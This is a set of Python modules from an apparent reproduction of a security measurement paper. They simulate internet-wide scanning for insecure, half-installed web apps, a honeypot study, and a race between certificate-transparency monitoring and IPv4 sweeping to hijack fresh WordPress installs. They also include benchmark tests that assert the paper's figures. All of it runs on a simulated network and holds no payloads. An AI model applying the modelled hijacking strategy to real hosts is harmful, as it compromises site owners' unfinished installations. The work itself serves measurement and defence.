        return self.hijacked / total if total else 0.0

    @property
    def median_delay(self) -> float:
        return median(self.discovery_delays) if self.discovery_delays else float("inf")


@dataclass
class CtRaceResult:
    config: CtRaceConfig
    sweep: StrategyOutcome
    ct: StrategyOutcome
    log_size: int

    def table(self) -> Table:
        table = Table(
            "Extension: discovery race — CT monitoring vs IPv4 sweeping",
            ("Strategy", "Hijacked", "Missed", "Hijack rate", "Median delay (h)"),
        )
        for outcome in (self.sweep, self.ct):
            table.add_row(
                outcome.name,
                outcome.hijacked,
                outcome.missed,
                f"{outcome.hijack_rate:.0%}",
                round(outcome.median_delay / HOUR, 2),
            )
        return table


def _probe_is_vulnerable(transport: InMemoryTransport, ip_value: int) -> bool:
    """Verify with the production WordPress plugin (GET-only)."""
    from repro.net.ipv4 import IPv4Address

    plugin = plugin_for("wordpress")
    context = PluginContext(transport, IPv4Address(ip_value), 443, Scheme.HTTPS)
    return plugin.detect(context) is not None


def run_ct_race(config: CtRaceConfig | None = None) -> CtRaceResult:
    """Run the race and report per-strategy outcomes."""
    config = config or CtRaceConfig()
    rng = random.Random(config.seed)

    internet = SimulatedInternet()
    ct_log = CertificateTransparencyLog()
    taken: set[int] = set()

    # Generate the deployment stream (time-ordered for the CT log).
    deployments: list[_Deployment] = []
    appear_times = sorted(rng.uniform(0, config.window) for _ in range(config.deployments))
    for appears_at in appear_times:
        ip = allocate_addresses(rng, 1, taken)[0]
        certificate = issue_certificate(rng, issued_at=appears_at,
                                        self_signed_chance=0.0)
        ct_log.submit(certificate, appears_at)
        app = create_instance("wordpress", vulnerable=True)
        host = Host(ip, HostKind.AWE)
        host.add_service(
            Service(443, frozenset({Scheme.HTTPS}),
                    app=AppInstance(app, 443, tls=True), certificate=certificate)
        )
        internet.add_host(host)
        completes_at = appears_at + rng.expovariate(1.0 / config.completion_mean)
        deployments.append(
            _Deployment(ip.value, appears_at, completes_at,
                        certificate.contact_domain() or "")
        )

    transport = InMemoryTransport(internet)

    def attempt(outcome: StrategyOutcome, deployment: _Deployment,
                discovered_at: float) -> None:
        from repro.net.ipv4 import IPv4Address

        host = internet.host_at(IPv4Address(deployment.ip_value))
        # Owner finishes the install at completes_at: flip state lazily.
        app = host.apps()[0].app
        if discovered_at >= deployment.completes_at and app.is_vulnerable():
            app.complete_installation("owner-password")
        if _probe_is_vulnerable(transport, deployment.ip_value):
            outcome.hijacked += 1
            outcome.discovery_delays.append(discovered_at - deployment.appears_at)
            # Reset for the other strategy's independent attempt.
            app.config["installed"] = False
            app.config.pop("admin_password", None)
        else:
            outcome.missed += 1
            app.config["installed"] = False
            app.config.pop("admin_password", None)

    # Strategy 1: the full-IPv4 sweeper.  A deployment appearing at t is
    # first visited at the sweep's next pass over its address — a uniform
    # phase in [0, period).
    sweep = StrategyOutcome("ipv4-sweep")
    for deployment in deployments:
        phase = rng.uniform(0, config.sweep_period)
        discovered_at = deployment.appears_at + phase
        attempt(sweep, deployment, discovered_at)

    # Strategy 2: the CT monitor.  Deployments surface at the next poll.
    ct = StrategyOutcome("ct-monitor")
    for deployment in deployments:
        next_poll = (
            (deployment.appears_at // config.ct_poll) + 1
        ) * config.ct_poll
        attempt(ct, deployment, next_poll)

    return CtRaceResult(config=config, sweep=sweep, ct=ct, log_size=len(ct_log))
