"""Extension experiment: pipeline recall under packet loss (§6.2).

Sweeps the same population with increasing injected loss and reports the
recall of the MAV detections versus the loss-free baseline — putting a
number on the paper's "our scanning results should be seen as a lower
bound" for the transient-failure component.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.apps.catalog import scanned_ports
from repro.core.pipeline import ScanPipeline
from repro.net.flaky import FlakyTransport
from repro.net.network import SimulatedInternet
from repro.net.population import PopulationModel, generate_internet
from repro.net.transport import InMemoryTransport
from repro.util.tables import Table


@dataclass(frozen=True)
class LossPoint:
    loss_rate: float
    found: int
    baseline: int

    @property
    def recall(self) -> float:
        return self.found / self.baseline if self.baseline else 0.0


@dataclass
class PacketLossResult:
    points: list[LossPoint]

    def table(self) -> Table:
        table = Table(
            "Extension: MAV recall under injected packet loss",
            ("Loss rate", "MAVs found", "Recall"),
        )
        for point in self.points:
            table.add_row(
                f"{point.loss_rate:.0%}", point.found, f"{point.recall:.0%}"
            )
        return table


def run_packet_loss_study(
    internet: SimulatedInternet | None = None,
    loss_rates: tuple[float, ...] = (0.0, 0.01, 0.05, 0.10, 0.25),
    seed: int = 13,
) -> PacketLossResult:
    """Scan one population repeatedly under increasing loss."""
    if internet is None:
        internet, _geo, _census = generate_internet(
            PopulationModel(awe_rate=0.002, vuln_rate=0.1, background_rate=1e-7)
        )
    addresses = internet.populated_addresses()

    baseline_transport = InMemoryTransport(internet)
    baseline_pipeline = ScanPipeline(
        baseline_transport, scanned_ports(), fingerprint=False
    )
    baseline = len(baseline_pipeline.run(addresses).vulnerable_ips())

    points = []
    for loss in loss_rates:
        transport = FlakyTransport(
            InMemoryTransport(internet), syn_loss=loss, request_loss=loss,
            seed=seed,
        )
        pipeline = ScanPipeline(transport, scanned_ports(), fingerprint=False)
        found = len(pipeline.run(addresses).vulnerable_ips())
        points.append(LossPoint(loss, found, baseline))
    return PacketLossResult(points)
