"""Extension experiments: pipeline recall under injected faults (§6.2).

Two studies share this module:

* :func:`run_packet_loss_study` — sweeps the same population with
  increasing injected loss and reports the recall of the MAV detections
  versus the loss-free baseline, putting a number on the paper's "our
  scanning results should be seen as a lower bound" for the
  transient-failure component;
* :func:`run_recall_recovery_study` — quantifies how much of that
  lower-bound gap is *closable*: under the same injected faults, a
  :class:`~repro.core.retry.RetryPolicy` (re-probes, backoff with seeded
  jitter, circuit breakers) wins most of the lost recall back.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.apps.catalog import scanned_ports
from repro.core.pipeline import ScanPipeline
from repro.core.retry import RetryPolicy
from repro.net.chaos import ChaosTransport, FaultPlan
from repro.net.flaky import FlakyTransport
from repro.net.network import SimulatedInternet
from repro.net.population import PopulationModel, generate_internet
from repro.net.transport import InMemoryTransport
from repro.util.clock import SimClock
from repro.util.tables import Table


@dataclass(frozen=True)
class LossPoint:
    loss_rate: float
    found: int
    baseline: int

    @property
    def recall(self) -> float:
        return self.found / self.baseline if self.baseline else 0.0


@dataclass
class PacketLossResult:
    points: list[LossPoint]

    def table(self) -> Table:
        table = Table(
            "Extension: MAV recall under injected packet loss",
            ("Loss rate", "MAVs found", "Recall"),
        )
        for point in self.points:
            table.add_row(
                f"{point.loss_rate:.0%}", point.found, f"{point.recall:.0%}"
            )
        return table


def run_packet_loss_study(
    internet: SimulatedInternet | None = None,
    loss_rates: tuple[float, ...] = (0.0, 0.01, 0.05, 0.10, 0.25),
    seed: int = 13,
) -> PacketLossResult:
    """Scan one population repeatedly under increasing loss."""
    if internet is None:
        internet, _geo, _census = generate_internet(
            PopulationModel(awe_rate=0.002, vuln_rate=0.1, background_rate=1e-7)
        )
    addresses = internet.populated_addresses()

    baseline_transport = InMemoryTransport(internet)
    baseline_pipeline = ScanPipeline(
        baseline_transport, scanned_ports(), fingerprint=False
    )
    baseline = len(baseline_pipeline.run(addresses).vulnerable_ips())

    points = []
    for loss in loss_rates:
        transport = FlakyTransport(
            InMemoryTransport(internet), syn_loss=loss, request_loss=loss,
            seed=seed,
        )
        pipeline = ScanPipeline(transport, scanned_ports(), fingerprint=False)
        found = len(pipeline.run(addresses).vulnerable_ips())
        points.append(LossPoint(loss, found, baseline))
    return PacketLossResult(points)


@dataclass(frozen=True)
class RecoveryPoint:
    """Recall with and without retries at one injected fault level."""

    fault_rate: float
    baseline: int
    found_without_retry: int
    found_with_retry: int
    retries: int
    recovered: int

    @property
    def recall_without_retry(self) -> float:
        return self.found_without_retry / self.baseline if self.baseline else 0.0

    @property
    def recall_with_retry(self) -> float:
        return self.found_with_retry / self.baseline if self.baseline else 0.0


@dataclass
class RecallRecoveryResult:
    points: list[RecoveryPoint]

    def table(self) -> Table:
        table = Table(
            "Extension: recall won back by retries under injected faults",
            ("Fault rate", "Recall (no retry)", "Recall (retry)",
             "Retries", "Recovered ops"),
        )
        for point in self.points:
            table.add_row(
                f"{point.fault_rate:.0%}",
                f"{point.recall_without_retry:.0%}",
                f"{point.recall_with_retry:.0%}",
                point.retries,
                point.recovered,
            )
        return table


def run_recall_recovery_study(
    internet: SimulatedInternet | None = None,
    fault_rates: tuple[float, ...] = (0.02, 0.05, 0.10),
    seed: int = 13,
    policy: RetryPolicy | None = None,
) -> RecallRecoveryResult:
    """Measure MAV recall with and without retries under chaos faults.

    Both arms see the *same* fault plan from the same seed; the only
    difference is the retry policy, so the recall delta is attributable
    to the resilience layer alone.
    """
    if internet is None:
        internet, _geo, _census = generate_internet(
            PopulationModel(awe_rate=0.002, vuln_rate=0.1, background_rate=1e-7)
        )
    addresses = internet.populated_addresses()
    if policy is None:
        policy = RetryPolicy(max_attempts=3, base_delay=0.5, max_delay=8.0)

    baseline_pipeline = ScanPipeline(
        InMemoryTransport(internet), scanned_ports(), fingerprint=False
    )
    baseline = len(baseline_pipeline.run(addresses).vulnerable_ips())

    points = []
    for rate in fault_rates:
        plan = FaultPlan(
            syn_loss=rate, request_loss=rate, reset_rate=rate / 2
        )

        bare = ScanPipeline(
            ChaosTransport(InMemoryTransport(internet), plan, seed=seed),
            scanned_ports(), fingerprint=False,
        )
        without_retry = len(bare.run(addresses).vulnerable_ips())

        clock = SimClock()
        resilient = ScanPipeline(
            ChaosTransport(
                InMemoryTransport(internet), plan, seed=seed, clock=clock
            ),
            scanned_ports(), fingerprint=False,
            retry_policy=policy, clock=clock,
        )
        report = resilient.run(addresses)
        points.append(
            RecoveryPoint(
                fault_rate=rate,
                baseline=baseline,
                found_without_retry=without_retry,
                found_with_retry=len(report.vulnerable_ips()),
                retries=report.retry_stats.retries,
                recovered=report.retry_stats.recovered,
            )
        )
    return RecallRecoveryResult(points)
