"""End-to-end experiment drivers for the paper's four studies.

* :mod:`repro.experiments.scan` — §3's Internet-wide scan (Tables 2-4,
  Figure 1 inputs).
* :mod:`repro.experiments.observe` — RQ3's four-week observer (Figure 2).
* :mod:`repro.experiments.honeypots` — §4's honeypot study (Tables 5-8,
  Figures 3-4).
* :mod:`repro.experiments.defenders` — §5's commercial-scanner test.
* :mod:`repro.experiments.full_study` — everything, rendered as one
  report.
"""

from repro.experiments.config import StudyConfig
from repro.experiments.scan import ScanStudy, run_scan_study
from repro.experiments.observe import ObserverStudy, run_observer_study
from repro.experiments.honeypots import HoneypotStudy, run_honeypot_study
from repro.experiments.defenders import DefenderStudy, run_defender_study
from repro.experiments.full_study import FullStudy, run_full_study

__all__ = [
    "StudyConfig",
    "ScanStudy",
    "run_scan_study",
    "ObserverStudy",
    "run_observer_study",
    "HoneypotStudy",
    "run_honeypot_study",
    "DefenderStudy",
    "run_defender_study",
    "FullStudy",
    "run_full_study",
]
