"""The four-week observer study (RQ3 / Figure 2).

After the initial scan, the observer re-scans every vulnerable host on a
three-hour cadence.  Between sweeps the lifecycle model plays out: owners
take hosts offline, complete CMS installations, flip authentication on,
or update the software.  Each sweep classifies every host by *observation
alone* — detection plugin fires → vulnerable; application answers but the
plugin stays silent → fixed; no answer → offline.
"""

from __future__ import annotations

import random
from dataclasses import dataclass

from repro.analysis.figures import Figure2
from repro.analysis.longevity import HostStatus, ObservationLog, ObservedHost
from repro.apps.catalog import app_by_slug
from repro.apps.versions import RELEASE_DB
from repro.core.tsunami.plugin import PluginContext
from repro.core.tsunami.plugins import plugin_for
from repro.experiments.scan import ScanStudy
from repro.net.http import Scheme
from repro.net.lifecycle import Fate, FateKind, LifecycleModel
from repro.obs.telemetry import Telemetry
from repro.util.errors import TransportError


@dataclass
class _TrackedHost:
    """Observer-side record of one vulnerable host under watch."""

    ip_value: int
    slug: str
    port: int
    scheme: Scheme
    fate: Fate
    update_applied: bool = False


@dataclass
class ObserverStudy:
    """Results of the longevity observation."""

    log: ObservationLog
    sweep_count: int
    version_updates: int
    #: updates the observer *measured* by re-fingerprinting (vs the
    #: generator-side count above); the paper found 101 hosts (2.4%)
    observed_version_updates: int = 0
    #: sweep/status counters for the observation window
    telemetry: Telemetry | None = None

    def figure2(self) -> Figure2:
        return Figure2(self.log)

    def final_counts(self) -> dict[HostStatus, int]:
        return self.log.final_counts()


def _classify(transport, tracked: _TrackedHost) -> HostStatus:
    """One host, one sweep: vulnerable / fixed / offline."""
    from repro.net.ipv4 import IPv4Address

    ip = IPv4Address(tracked.ip_value)
    if not transport.syn_probe(ip, tracked.port):
        return HostStatus.OFFLINE
    try:
        transport.get(ip, tracked.port, "/", tracked.scheme)
    except TransportError:
        return HostStatus.OFFLINE
    plugin = plugin_for(tracked.slug)
    if plugin is not None:
        context = PluginContext(transport, ip, tracked.port, tracked.scheme)
        if plugin.detect(context) is not None:
            return HostStatus.VULNERABLE
    return HostStatus.FIXED


def _apply_fate_transitions(
    study: ScanStudy, tracked: _TrackedHost, now: float
) -> int:
    """Mutate the simulated host according to its fate.  Returns updates."""
    from repro.net.ipv4 import IPv4Address

    updates = 0
    host = study.internet.host_at(IPv4Address(tracked.ip_value))
    if host is None:
        return 0
    fate = tracked.fate

    if (
        fate.update_time is not None
        and now >= fate.update_time
        and not tracked.update_applied
        and host.online
    ):
        app = host.app_instance(tracked.slug)
        if app is not None:
            next_release = RELEASE_DB.next_release_after(
                tracked.slug, RELEASE_DB.release_date(tracked.slug, app.version)
            )
            if next_release is not None:
                app.version = next_release.version
                updates = 1
        tracked.update_applied = True

    if fate.exit_time is not None and now >= fate.exit_time:
        if fate.kind is FateKind.OFFLINE:
            host.take_offline()
        elif fate.kind is FateKind.FIXED and host.online:
            app = host.app_instance(tracked.slug)
            if app is not None and app.is_vulnerable():
                try:
                    app.secure()
                except NotImplementedError:
                    host.take_offline()  # e.g. Polynote: no auth to enable
    return updates


def run_observer_study(
    study: ScanStudy,
    lifecycle: LifecycleModel | None = None,
    telemetry: Telemetry | None = None,
) -> ObserverStudy:
    """Observe every detected-vulnerable host for the configured window."""
    config = study.config
    lifecycle = lifecycle or LifecycleModel(window=config.observation_window)
    telemetry = telemetry or Telemetry()
    rng = random.Random(config.seed ^ 0xA11CE)

    # Register the watched population from the *pipeline's* findings.
    log = ObservationLog()
    tracked: list[_TrackedHost] = []
    for finding in study.report.findings.values():
        for slug in finding.vulnerable_slugs:
            observation = finding.observations[slug]
            host = study.internet.host_at(finding.ip)
            app = host.app_instance(slug) if host else None
            version = app.version if app is not None else (observation.version or "0")
            spec = app_by_slug(slug)
            log.register_host(
                ObservedHost(
                    ip_value=finding.ip.value,
                    slug=slug,
                    insecure_by_default=spec.default_mav_in(version),
                    version=version,
                )
            )
            tracked.append(
                _TrackedHost(
                    ip_value=finding.ip.value,
                    slug=slug,
                    port=observation.port,
                    scheme=observation.scheme,
                    fate=lifecycle.fate_for(rng, slug, version),
                )
            )
            break  # one application per host is observed, like the paper

    snapshots = _snapshot_tracked_state(study, tracked)
    try:
        updates = 0
        sweeps = 0
        now = 0.0
        while now <= config.observation_window:
            statuses: dict[int, HostStatus] = {}
            with telemetry.tracer.span("observer-sweep", at=now):
                for host in tracked:
                    updates += _apply_fate_transitions(study, host, now)
                    statuses[host.ip_value] = _classify(study.transport, host)
            log.record_sweep(now, statuses)
            telemetry.metrics.counter("observer_sweeps_total").inc()
            for status in statuses.values():
                telemetry.metrics.counter(
                    "observer_status_total", status=status.value
                ).inc()
            sweeps += 1
            now += config.rescan_interval

        observed_updates = _measure_version_updates(study, tracked, log)
    finally:
        # The observation mutated the simulated hosts (owners went
        # offline, fixed, or updated).  Restore them so the ScanStudy's
        # internet stays a faithful image of scan time for later
        # consumers (re-scans, disclosure planning, other analyses).
        _restore_tracked_state(study, snapshots)
    return ObserverStudy(
        log=log,
        sweep_count=sweeps,
        version_updates=updates,
        observed_version_updates=observed_updates,
        telemetry=telemetry,
    )


def _snapshot_tracked_state(
    study: ScanStudy, tracked: list[_TrackedHost]
) -> list[tuple[int, bool, str, str, dict[str, object]]]:
    import copy

    from repro.net.ipv4 import IPv4Address

    snapshots = []
    for record in tracked:
        host = study.internet.host_at(IPv4Address(record.ip_value))
        if host is None:
            continue
        app = host.app_instance(record.slug)
        if app is None:
            continue
        snapshots.append(
            (record.ip_value, host.online, record.slug, app.version,
             copy.deepcopy(app.config))
        )
    return snapshots


def _restore_tracked_state(study: ScanStudy, snapshots) -> None:
    from repro.net.ipv4 import IPv4Address

    for ip_value, online, slug, version, config in snapshots:
        host = study.internet.host_at(IPv4Address(ip_value))
        if host is None:
            continue
        host.online = online
        app = host.app_instance(slug)
        if app is not None:
            app.version = version
            app.config.clear()
            app.config.update(config)


def _measure_version_updates(
    study: ScanStudy, tracked: list[_TrackedHost], log: ObservationLog
) -> int:
    """Re-fingerprint the watched hosts and count changed versions.

    "We also continued to apply our fingerprinter to all vulnerable
    hosts, to see if some of them were updated" — 101 hosts (2.4%) in
    the paper.  Only hosts still answering can be fingerprinted.
    """
    from repro.core.fingerprint.fingerprinter import VersionFingerprinter
    from repro.core.fingerprint.knowledge_base import build_default_knowledge_base
    from repro.net.ipv4 import IPv4Address

    fingerprinter = VersionFingerprinter(
        study.transport, build_default_knowledge_base()
    )
    changed = 0
    for host in tracked:
        initial = log.hosts[host.ip_value].version
        if initial is None:
            continue
        fingerprint = fingerprinter.fingerprint(
            IPv4Address(host.ip_value), host.port, host.scheme, (host.slug,)
        )
        if fingerprint is not None and fingerprint.version != initial:
            changed += 1
    return changed
