"""The honeypot study (paper §4).

Deploys the 18 honeypots, generates the calibrated four-week attack
schedule, and replays it through the monitored fleet on a simulated
clock, with containment sweeps every 15 minutes (resource thresholds) and
availability restores after every event (trust-on-first-use traps).
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.analysis.attacks import (
    Attack,
    AttackerCluster,
    cluster_attackers,
    group_attacks,
    top_attacker_share,
)
from repro.analysis.figures import Figure3, Figure4
from repro.analysis.tables import table5, table6, table7, table8
from repro.attacker.engine import AttackSchedule, build_schedule, execute_event
from repro.experiments.config import StudyConfig
from repro.honeypot.fleet import HoneypotFleet
from repro.net.geo import GeoDatabase
from repro.obs.telemetry import Telemetry
from repro.util.clock import MINUTE, SimClock
from repro.util.tables import Table


@dataclass
class HoneypotStudy:
    """Results of the four-week honeypot deployment."""

    fleet: HoneypotFleet
    schedule: AttackSchedule
    geo: GeoDatabase
    attacks: list[Attack]
    clusters: list[AttackerCluster]
    delivered_events: int
    dropped_events: int
    telemetry: Telemetry | None = None

    def table5(self) -> Table:
        return table5(self.attacks)

    def table6(self) -> Table:
        return table6(self.attacks)

    def table7(self) -> Table:
        return table7(self.attacks, self.geo)

    def table8(self) -> Table:
        return table8(self.attacks, self.geo)

    def figure3(self) -> Figure3:
        return Figure3.build(self.attacks)

    def figure4(self) -> Figure4:
        return Figure4.build(self.clusters)

    def top_share(self, top: int) -> float:
        return top_attacker_share(self.clusters, top)

    def attacked_applications(self) -> set[str]:
        return {attack.honeypot for attack in self.attacks}


def run_honeypot_study(
    config: StudyConfig | None = None,
    geo: GeoDatabase | None = None,
    taken_ips: set[int] | None = None,
) -> HoneypotStudy:
    """Deploy, expose, and observe the honeypot fleet for four weeks."""
    config = config or StudyConfig.default()
    geo = geo if geo is not None else GeoDatabase()

    clock = SimClock()
    telemetry = Telemetry(clock=clock)
    fleet = HoneypotFleet.deploy(telemetry=telemetry)
    fleet.go_live()

    schedule = build_schedule(
        seed=config.attack_seed,
        duration=config.observation_window,
        geo=geo,
        taken_ips=taken_ips,
    )

    delivered = 0
    dropped = 0

    def containment_tick() -> None:
        fleet.containment_sweep(clock.now)
        if clock.now + 15 * MINUTE <= config.observation_window:
            clock.schedule(15 * MINUTE, containment_tick)

    def fire(event) -> None:
        nonlocal delivered, dropped
        if execute_event(fleet, event):
            delivered += 1
            telemetry.metrics.counter(
                "attack_events_total", outcome="delivered"
            ).inc()
        else:
            dropped += 1
            telemetry.metrics.counter(
                "attack_events_total", outcome="dropped"
            ).inc()
        # Availability monitoring notices one-shot traps immediately and
        # restores them so the next attacker finds a fresh installation.
        fleet.availability_sweep()

    clock.schedule(15 * MINUTE, containment_tick)
    for event in schedule.events:
        clock.schedule_at(event.time, lambda event=event: fire(event))
    clock.run_until(config.observation_window)

    fleet.log.verify_integrity()
    audit_events = fleet.log.audit_events()
    attacks = group_attacks(audit_events)
    clusters = cluster_attackers(attacks)

    return HoneypotStudy(
        fleet=fleet,
        schedule=schedule,
        geo=geo,
        attacks=attacks,
        clusters=clusters,
        delivered_events=delivered,
        dropped_events=dropped,
        telemetry=telemetry,
    )
