"""E-F4: regenerate Figure 4 (cross-application attackers)."""

from repro.analysis.attacks import cluster_attackers
from repro.analysis.figures import Figure4


def test_figure4(benchmark, honeypot_study):
    def build():
        clusters = cluster_attackers(honeypot_study.attacks)
        return Figure4.build(clusters)

    figure = benchmark(build)
    print()
    print(figure.render())

    # Paper: 10 attackers hit >= 2 applications, together 419 attacks.
    assert 8 <= len(figure.multi_app_clusters) <= 12
    assert 380 <= figure.total_multi_app_attacks <= 460

    pairings = {frozenset(c.honeypots) for c in figure.multi_app_clusters}
    assert frozenset({"hadoop", "docker"}) in pairings
    assert frozenset({"jupyterlab", "jupyter-notebook"}) in pairings
    # Exactly one actor bridges Docker and Jupyter Notebook (actor I)...
    bridge = [
        c for c in figure.multi_app_clusters
        if c.honeypots == {"docker", "jupyter-notebook"}
    ]
    assert len(bridge) == 1
    # ...and it is the IP-richest actor (paper: 14 addresses).
    assert len(bridge[0].ips) == max(
        len(c.ips) for c in figure.multi_app_clusters
    )
