"""Shared fixtures for the benchmark harness.

The expensive studies run once per session at the *bench scale*: all
4,221 vulnerable hosts (vuln_rate=1.0), a 1% sample of the secure AWE
population, and a sparse background.  Each bench then times the analysis
that regenerates its table or figure and prints the regenerated rows so
the output can be compared with the paper side by side.
"""

from __future__ import annotations

import pytest

from repro.experiments.config import StudyConfig
from repro.experiments.defenders import run_defender_study
from repro.experiments.honeypots import run_honeypot_study
from repro.experiments.observe import run_observer_study
from repro.experiments.scan import run_scan_study
from repro.net.population import PopulationModel
from repro.util.clock import HOUR


@pytest.fixture(scope="session")
def bench_config() -> StudyConfig:
    return StudyConfig(
        population=PopulationModel(
            awe_rate=0.01, vuln_rate=1.0, background_rate=2e-6
        ),
        rescan_interval=6 * HOUR,
    )


@pytest.fixture(scope="session")
def scan_study(bench_config):
    return run_scan_study(bench_config)


@pytest.fixture(scope="session")
def observer_study(scan_study):
    return run_observer_study(scan_study)


@pytest.fixture(scope="session")
def honeypot_study(bench_config):
    return run_honeypot_study(bench_config)


@pytest.fixture(scope="session")
def defender_study():
    return run_defender_study()


def print_table(table) -> None:
    print()
    print(table.render())
