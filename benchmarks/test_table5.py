"""E-T5: regenerate Table 5 (attacks per honeypot application)."""

from conftest import print_table

from repro.analysis.tables import table5


def test_table5(benchmark, honeypot_study):
    table = benchmark(table5, honeypot_study.attacks)
    print_table(table)

    rows = {row["App"]: row for row in table.as_dicts()}
    # Exact per-application attack counts from the paper.
    assert rows["Jenkins"]["# Attacks"] == 4
    assert rows["WordPress"]["# Attacks"] == 9
    assert rows["Grav"]["# Attacks"] == 1
    assert rows["Docker"]["# Attacks"] == 132
    assert rows["Hadoop"]["# Attacks"] == 1921
    assert rows["Jupyter Lab"]["# Attacks"] == 29
    assert rows["Jupyter Notebook"]["# Attacks"] == 99

    # Unique attacks match the paper's per-app values.
    assert rows["Hadoop"]["# Uniq. Attacks"] == 49
    assert rows["Jupyter Notebook"]["# Uniq. Attacks"] == 50
    assert rows["Docker"]["# Uniq. Attacks"] == 12
    assert rows["Jenkins"]["# Uniq. Attacks"] == 3

    total = table.as_dicts()[-1]
    assert total["# Attacks"] == 2195
    assert 110 <= total["# Uniq. Attacks"] <= 135   # paper: 122
    assert 140 <= total["# Uniq. IPs"] <= 175       # paper: 160
