"""Throughput harness: stage-II bodies/sec and end-to-end addresses/sec.

Times two things against a *seed-baseline emulation* (the hot paths as
they were before the parallel-engine PR):

* **matcher** — ``match_signatures`` (guaranteed-literal prescan + single
  combined scan) versus ``match_signatures_naive`` (up to 90 regexes, one
  at a time) over the canned-page corpus plus signature-free bodies;
* **pipeline** — the sharded engine at 1/2/4/8 workers — on both the
  thread executor and the multicore process executor — versus a
  sequential baseline run with the naive matcher and the per-port probe
  path (no batched ``probe_ports``), on a bench-scale census.

Results land in ``BENCH_scan.json`` so future PRs have a perf
trajectory.  ``--check`` gates CI on the committed file: because absolute
addresses/sec depend on the runner's hardware, the gate compares the
hardware-independent *speedup ratios* (current vs committed) and fails
when sequential throughput regresses more than ``--tolerance`` relative
to its baseline.  Process-executor scaling efficiency additionally gets
*absolute* floors (workers=4 >= 2x, workers=8 >= 3x over workers=1) —
but only when the machine has the cores to make the floor physically
meaningful, which is why ``cpu_cores`` is recorded in the file: a
1-core container measuring efficiency 1.0 is not a regression, it is
Amdahl's law.

Usage::

    PYTHONPATH=src python benchmarks/bench_throughput.py \
        --out BENCH_scan.json                  # full-scale, rewrite file
    PYTHONPATH=src python benchmarks/bench_throughput.py \
        --addresses 3000 --check BENCH_scan.json   # CI smoke + gate
"""

from __future__ import annotations

import argparse
import json
import os
import sys
import time
from pathlib import Path

from repro.apps.catalog import scanned_ports
from repro.core import masscan as masscan_mod
from repro.core import prefilter as prefilter_mod
from repro.core.pipeline import ScanPipeline
from repro.core.prefilter import match_signatures, match_signatures_naive
from repro.core.retry import RetryPolicy
from repro.lint.corpus import build_corpus
from repro.net.chaos import ChaosTransport, FaultPlan
from repro.net.ipv4 import IPv4Address, iana_reserved_networks
from repro.net.transport import InMemoryTransport, Transport
from repro.obs.profile import ProfileRollup
from repro.util.clock import SimClock

SCHEMA = 4

#: absolute floors on the interval/rescan arms, enforced by
#: --enforce-rescan-floors.  An incremental re-scan at 2% block churn
#: must beat a from-scratch sweep by >= 5x end to end, and the
#: interval-compressed frame must cost <= 1/10 the bytes per address of
#: a naive per-address dict.  Both compare two runs on the *same*
#: machine, so unlike raw throughput they are hardware-independent.
RESCAN_SPEEDUP_FLOOR = 5.0
MEMORY_RATIO_FLOOR = 10.0

#: absolute floors on process-executor scaling efficiency (workers=N
#: throughput over workers=1), enforced by --enforce-scaling-floors on
#: machines with at least N cores.  On fewer cores the floor is
#: physically unreachable and is skipped, not failed.
EFFICIENCY_FLOORS = {"4": 2.0, "8": 3.0}

#: mild weather for the SimClock-attribution arm: a clean sweep never
#: advances the simulated clock, so attributing sim time needs retries
#: (backoff) and slow responses (injected latency) actually happening
SIM_ATTRIBUTION_PLAN = FaultPlan(
    request_loss=0.03,
    slow_rate=0.02,
    slow_latency=5.0,
)


# -- matcher ------------------------------------------------------------------

def matcher_bodies() -> list[str]:
    """The canned-page corpus plus signature-free filler, 2:1.

    Real stage-II traffic is a mix of application landing pages and
    bodies that match nothing (decoys, error pages); the filler keeps the
    bench honest about the all-miss case, which is the matcher's
    worst-case scan.
    """
    corpus = [
        body
        for pages in build_corpus().values()
        for body in pages.values()
    ]
    filler = ["<html><body>nothing to see here</body></html> " * 30] * (
        len(corpus) // 2
    )
    return corpus + filler


def bench_matcher(rounds: int = 30) -> dict:
    bodies = matcher_bodies()

    def rate(fn) -> float:
        start = time.perf_counter()
        for _ in range(rounds):
            for body in bodies:
                fn(body)
        return rounds * len(bodies) / (time.perf_counter() - start)

    naive = rate(match_signatures_naive)
    single_pass = rate(match_signatures)
    return {
        "bodies": len(bodies),
        "naive_bodies_per_sec": round(naive, 1),
        "single_pass_bodies_per_sec": round(single_pass, 1),
        "speedup": round(single_pass / naive, 3),
    }


# -- pipeline -----------------------------------------------------------------

def legacy_is_reserved(address: IPv4Address) -> bool:
    """The pre-PR reserved check: a linear scan over all 27 CIDR objects.

    The PR replaced it with a bisect over precomputed integer ranges;
    the baseline must still pay the old per-address cost.
    """
    return any(net.contains(address) for net in _LEGACY_RESERVED)


_LEGACY_RESERVED = iana_reserved_networks()


class PerPortTransport(Transport):
    """Seed-baseline probe path: no batched ``probe_ports`` override.

    Wrapping the in-memory transport in this shim restores the
    one-host-lookup-per-port behaviour the scanner had before this PR,
    which is what the end-to-end baseline must measure.
    """

    def __init__(self, inner: Transport) -> None:
        super().__init__(enforce_ethics=inner.enforce_ethics)
        self.inner = inner
        self.stats = inner.stats

    def _port_open(self, ip, port):
        return self.inner._port_open(ip, port)

    def _exchange(self, ip, port, scheme, request):
        return self.inner._exchange(ip, port, scheme, request)

    def fetch_certificate(self, ip, port):
        return self.inner.fetch_certificate(ip, port)


def bench_census(limit: int | None, dead_per_live: int = 50):
    """The bench-scale frame: populated hosts diluted with dead neighbours.

    The paper sweeps ~3.5B addresses of which a sliver responds, so a
    realistic throughput frame is dominated by stage I silence.  Scanning
    only ``populated_addresses()`` would invert that (and hide the
    batched-probe win), so each populated host drags ``dead_per_live``
    unpopulated addresses from its own /24 into the frame.
    """
    from repro.experiments.config import StudyConfig
    from repro.net.population import generate_internet

    internet, _geo, _census = generate_internet(
        StudyConfig.default().population
    )
    populated: list[IPv4Address] = internet.populated_addresses()
    if limit is not None:
        populated = populated[:limit]
    values = set()
    for ip in populated:
        values.add(ip.value)
        base = ip.value & 0xFFFFFF00
        added = 0
        for offset in range(256):
            if added == dead_per_live:
                break
            value = base + offset
            if value not in values:
                values.add(value)
                added += 1
    candidates = [IPv4Address(value) for value in sorted(values)]
    return internet, candidates


def run_baseline(internet, candidates) -> float:
    """Sequential sweep with the pre-PR hot paths: addresses/sec."""
    transport = PerPortTransport(InMemoryTransport(internet))
    pipeline = ScanPipeline(transport, scanned_ports(), seed=3)
    # The baseline must pay the old 90-regex matching and linear
    # reserved-check costs; swapping the module hooks is bench-only
    # surgery and is undone immediately.
    original_match = prefilter_mod.match_signatures
